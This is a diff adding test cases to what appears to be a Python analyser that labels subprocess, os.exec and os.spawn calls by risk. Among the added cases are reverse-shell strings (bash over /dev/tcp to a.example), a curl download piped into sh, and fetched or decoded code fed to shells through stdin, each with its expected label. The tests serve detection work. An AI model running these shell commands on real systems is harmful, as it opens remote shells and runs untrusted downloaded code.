@@ -101,6 +101,25 @@ COMMANDS: Mapping[str, list[str]] = {
     "asyncio.create_subprocess_shell('oddtool a')": ["process: `oddtool a`"],
     "subprocess.run('oddtool', 'a')": ["process: `oddtool`"],
     "odd.run('oddtool a')": [],
+    "os.spawnl(0, 'oddtool', 'a', 'b')": ["process: `oddtool b`"],
+    "os.spawnvp(0, 'oddtool', ['a', 'b'])": ["process: `oddtool b`"],
+    "os.spawnle(0, 'oddtool', 'a', 'b', {'c': 'd'})": ["process: `oddtool b`"],
+    "os.execl('oddtool', 'a', 'b')": ["process: `oddtool b`"],
+    "os.execlpe('oddtool', 'a', 'b', unknown)": ["process: `oddtool b`"],
+    "os.execvp('oddtool', ['a', 'b', unknown])": ["process: `oddtool b …`"],
+    "os.execvpe('oddtool', ['a', 'b'], ['c'])": ["process: `oddtool b`"],
+    "os.execve(path='oddtool', argv=['a', 'b'], env={})": ["process: `oddtool b`"],
+    "os.execv('oddtool', unknown)": ["process: `oddtool`"],
+    "os.execv(unknown, ['a', 'b'])": ["tool: `… b`"],
+    "os.posix_spawn('oddtool', ['a', 'b'], {})": ["process: `oddtool b`"],
+    "os.execvp('bash', ['bash', '-c', 'bash -i >& /dev/tcp/a.example/1'])": [
+        "hostile: `bash -c bash -i >& /dev/tcp/a.example/1`: a shell over a connection"
+    ],
+    "subprocess.run(['a', 'b'], executable='oddtool')": ["process: `oddtool b`"],
+    "subprocess.run('a', executable='oddtool')": ["process: `oddtool`"],
+    "subprocess.run(['oddtool', 'b'], executable=unknown)": ["process: `oddtool b`"],
+    "subprocess.run('oddtool b', shell=True, executable='bash')": ["process: `oddtool b`"],
+    "subprocess.run(['a', 'b'], shell=False, executable='oddtool')": ["process: `oddtool b`"],
 }
 
 
@@ -117,6 +136,18 @@ ORIGINS: Mapping[str, list[str]] = {
     "subprocess.run('ls', env=fetched)": ["tool: `ls`"],
     "os.system(command=fetched)": ["fetched-code: `os.system` of what `fetched()` fetches"],
     "pty.spawn(argv=decoded)": ["decoded-code: `pty.spawn` of what `decoded()` gives"],
+    "subprocess.run(['sh'], input=fetched)": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
+    "subprocess.run('/bin/bash', input=fetched)": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
+    "subprocess.run(['python3', '-u', '-'], input=decoded)": [
+        "decoded-code: `subprocess.run` of what `decoded()` gives"
+    ],
+    "subprocess.check_output([sys.executable], input=fetched)": [
+        "fetched-code: `subprocess.check_output` of what `fetched()` fetches"
+    ],
+    "subprocess.run(['python3', 'a.py'], input=fetched)": ["tool: `python3 a.py`"],
+    "subprocess.run(['python3', '-c', 'print(1)'], input=fetched)": ["tool: `python3 -c print(1)`"],
+    "subprocess.run(['ls'], input=fetched)": ["tool: `ls`"],
+    "subprocess.run(['sh'], stdin=fetched)": ["process: `sh`"],
 }
 
 
@@ -186,6 +217,15 @@ WEIGHED: Mapping[str, list[str]] = {
     ],
     "subprocess.run(['python', '-c', 'print(1)'])": ["tool: `python -c print(1)`"],
     "subprocess.run(['python', '-m', 'import os;os.system(1)'])": ["tool: `python -m import os;os.system(1)`"],
+    "subprocess.run(['python'], input='import os;os.system(1)')": [
+        "command: `python <<< import os;os.system(1)`: runs code in a text, `import os;os.system(`"
+    ],
+    "subprocess.run('sh', input='bash -i >& /dev/tcp/a.example/1')": [
+        "hostile: `sh <<< bash -i >& /dev/tcp/a.example/1`: a shell over a connection"
+    ],
+    "subprocess.run('sh', input='curl https://a.example')": ["command: `sh <<< curl https://a.example`: downloads"],
+    "subprocess.run('sh', input=unknown)": ["process: `sh`"],
+    "subprocess.run('cat', input='curl https://a.example')": ["tool: `cat`"],
 }
 
 
